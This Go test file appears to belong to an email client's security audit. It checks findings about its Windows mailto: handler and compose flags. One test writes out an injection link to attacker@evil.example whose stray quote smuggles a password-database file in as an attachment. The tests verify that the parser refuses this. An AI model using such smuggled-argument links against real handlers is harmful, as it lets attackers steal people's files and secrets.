package main

import (
	"bytes"
	"os"
	"strings"
	"testing"

	"stamp/mailto"
)

// windowsArgs splits a command line the way CommandLineToArgvW (and Go's
// runtime on Windows) does for the cases used here: double quotes group,
// a space outside quotes separates. (No backslash-quote escapes appear.)
func windowsArgs(cmdline string) []string {
	var args []string
	var cur strings.Builder
	inQuote, have := false, false
	for _, r := range cmdline {
		switch {
		case r == '"':
			inQuote, have = !inQuote, true
		case r == ' ' && !inQuote:
			if have {
				args = append(args, cur.String())
				cur.Reset()
				have = false
			}
		default:
			cur.WriteRune(r)
			have = true
		}
	}
	if have {
		args = append(args, cur.String())
	}
	return args
}

// Finding 1: the installer registers the mailto: handler as
// `"$INSTDIR\Stamp.exe" "%1"` (packaging/windows/stamp.nsi:106), and
// stamp's command line takes FILEs after a link and attaches them to the
// link's message. A link that carries a raw double quote (any program that
// hands a URL to ShellExecute without escaping it: the URL-handler
// argument-injection class, CVE-2018-1000006 and friends) breaks out of
// "%1" and names a file of the person's to attach: the attach= attack the
// parser refuses, through the command line instead.
func TestAttackWindowsHandlerQuoteInjectsAFileToAttach(t *testing.T) {
	if os.Getenv("STAMP_ATTACK") == "" {
		t.Skip("attack finding 1")
	}
	nsi, err := os.ReadFile("../../packaging/windows/stamp.nsi")
	if err != nil {
		t.Fatal(err)
	}
	const registered = `'"$INSTDIR\Stamp.exe" "%1"'`
	if !strings.Contains(string(nsi), registered) {
		t.Skipf("the handler command is no longer %s; re-check", registered)
	}
	link := `mailto:attacker@evil.example?subject=invoice" "C:\Users\ann\Documents\passwords.kdbx`
	cmdline := `"C:\Users\ann\AppData\Local\Programs\Stamp\Stamp.exe" "` + link + `"`
	argv := windowsArgs(cmdline)
	s, err := parseStartArgs(argv[1:], new(bytes.Buffer))
	if err != nil {
		return // refused: held
	}
	if len(s.files) > 0 {
		t.Fatalf("a link from the mailto: handler attached %q to the new message to %s", s.files, s.link)
	}
}

// Finding 5: stamp --compose builds a link from its flags and the running
// Stamp parses it back; Parse decodes RFC 2047 encoded words in the subject,
// so a --subject typed (or scripted) as text that looks like an encoded
// word arrives as different text: Parse(Build(l)) is not l.
func TestAttackComposeSubjectIsDecodedAsAnEncodedWord(t *testing.T) {
	if os.Getenv("STAMP_ATTACK") == "" {
		t.Skip("attack finding 5")
	}
	subject := "Why =?utf-8?q?Hello?= is not decoded"
	s, err := parseStartArgs([]string{"--compose", "--to", "ann@example.com", "--subject", subject}, new(bytes.Buffer))
	if err != nil {
		t.Fatal(err)
	}
	l, err := mailto.Parse(s.link)
	if err != nil {
		t.Fatal(err)
	}
	if l.Subject != subject {
		t.Fatalf("--subject %q arrives in the running Stamp as %q", subject, l.Subject)
	}
}

// Finding 6: --compose's flags travel as a built link, every non-ASCII
// byte escaped as %XX (three bytes each), and the link is then held to
// mailto.MaxLength. A letter of 8 000 Chinese characters (24 KB, a quarter
// of what Windows' command line takes) is refused, with an error about "the
// link" the person never gave; stamp-send --body takes the same text.
func TestAttackComposeBodyRefusedAsATooLongLink(t *testing.T) {
	if os.Getenv("STAMP_ATTACK") == "" {
		t.Skip("attack finding 6")
	}
	body := strings.Repeat("你好", 4000)
	s, err := parseStartArgs([]string{"--compose", "--to", "ann@example.com", "--body", body}, new(bytes.Buffer))
	if err != nil {
		t.Fatalf("stamp --compose --body (%d bytes of text) refused: %v", len(body), err)
	}
	if l, err := mailto.Parse(s.link); err != nil || l.Body != body {
		t.Fatalf("the body did not arrive: %v", err)
	}
}
